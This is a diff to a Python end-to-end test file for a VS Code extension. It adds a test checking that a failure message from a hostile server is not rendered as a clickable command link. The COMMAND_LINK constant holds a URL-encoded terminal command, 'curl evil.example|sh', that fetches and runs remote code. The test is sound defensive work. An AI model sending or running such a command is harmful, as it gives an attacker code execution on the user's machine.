@@ -196,20 +196,31 @@ def browser():
 USER_HOME = os.environ.get("HOME", "")
 
 
-def test_ask_review_apply_in_a_real_vs_code(tmp_path, agent, browser):
+def installed_extension(tmp_path: Path) -> Path:
+    """code-server installed, and the extension packaged as a .vsix."""
     install_code_server(env={**os.environ, "HOME": USER_HOME})
     vsix = tmp_path / "patchwire-vscode.vsix"
     subprocess.run(["bash", str(ROOT / "editors" / "vscode" / "package.sh"), str(vsix)], check=True,
                    capture_output=True, timeout=300)
+    return vsix
+
+
+def patchwire_program(tmp_path: Path) -> Path:
+    program = tmp_path / "bin" / "patchwire"
+    program.parent.mkdir()
+    program.write_text(f"#!/bin/sh\nexec {sys.executable} {ROOT / 'patchwire.py'} \"$@\"\n")
+    program.chmod(0o755)
+    return program
+
+
+def test_ask_review_apply_in_a_real_vs_code(tmp_path, agent, browser):
+    vsix = installed_extension(tmp_path)
     task = script({"say": "Reading src/app.py"}, {"sleep": 4}, {"write": "src/app.py", "text": NEW_APP},
                   {"say": "Changed the greeting to French."}, text="").strip()
     root = make_repo(tmp_path / "greeter", {"README.md": b"# greeter\n", "src/app.py": OLD_APP.encode(),
                                              "TASK.md": task.encode() + b"\n"})
     Laptop(root).init(agent)
-    program = tmp_path / "bin" / "patchwire"
-    program.parent.mkdir()
-    program.write_text(f"#!/bin/sh\nexec {sys.executable} {ROOT / 'patchwire.py'} \"$@\"\n")
-    program.chmod(0o755)
+    program = patchwire_program(tmp_path)
 
     server = CodeServer(tmp_path / "vscode", SETTINGS, {"patchwire.path": str(program)})
     assert "was successfully installed" in server.install(vsix)
@@ -267,3 +278,43 @@ def drive_the_loop(wb: Workbench, server: CodeServer, root: Path) -> None:
     assert (root / "src" / "app.py").read_text() == NEW_APP
     for name in ("vscode-progress.png", "vscode-diff.png"):
         assert (ARTIFACTS / name).read_bytes().startswith(b"\x89PNG")
+
+
+# A failure reason as a lying box words it: VS Code draws [label](command:ID?ARGS) in a
+# notification as a link that runs the command on a click (here: type into the terminal).
+COMMAND_LINK = ('[Open the settings](command:workbench.action.terminal.sendSequence?'
+                '%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D "Fix it")')
+
+
+def test_a_failure_reason_from_the_box_is_no_link_in_a_vs_code_notification(tmp_path, browser):
+    from fake_box import FakeBox, answer
+    vsix = installed_extension(tmp_path)
+    root = make_repo(tmp_path / "greeter", {"README.md": b"# greeter\n", ".gitignore": b".pwtoken\n"})
+    (root / ".pwtoken").write_text("pw_fake\n")
+    (root / ".pwtoken").chmod(0o600)
+    box = FakeBox(tmp_path / "mirror")
+    events = [{"type": "queued", "position": 0}, {"type": "started"},
+              {"type": "failed", "status": "failed", "reason": "the AI gave up: " + COMMAND_LINK}]
+    box.lie("POST /v1/ask", answer(b"".join(json.dumps({"seq": n + 1, "job": "abc123", **e}).encode() + b"\n"
+                                            for n, e in enumerate(events)), kind="application/x-ndjson"))
+    Laptop(root).run("init", "--agent", box.url, "--token-file", ".pwtoken", check=0)
+    server = CodeServer(tmp_path / "vscode", SETTINGS, {"patchwire.path": str(patchwire_program(tmp_path))})
+    assert "was successfully installed" in server.install(vsix)
+    server.start(root)
+    try:
+        wb = Workbench(browser)
+        wb.driver.get(f"{server.url}/?folder={root}")
+        wb.wait("the Patchwire status bar item", lambda: "Patchwire" in wb.text(".statusbar"), timeout=90)
+        wb.command("Patchwire: Ask...")
+        wb.wait("the prompt box", lambda: "What should the AI do?" in wb.text(".quick-input-widget"))
+        wb.keys("anything", wb.Keys.ENTER)
+        wb.wait("the failure notification", lambda: "the AI gave up" in wb.text(".notifications-toasts"))
+        shown = wb.text(".notifications-toasts")
+        wb.shot("vscode-hostile-reason.png")
+        assert "[Open the settings] (command:workbench.action.terminal.sendSequence" in shown, shown
+        # a link in a notification's message is an <a> there (its buttons sit apart, below)
+        links = wb.driver.find_elements(wb.By.CSS_SELECTOR, ".notifications-toasts .notification-list-item-message a")
+        assert not [(a.text, a.get_attribute("href")) for a in links], "the box's text became a link"
+    finally:
+        server.stop()
+        box.close()
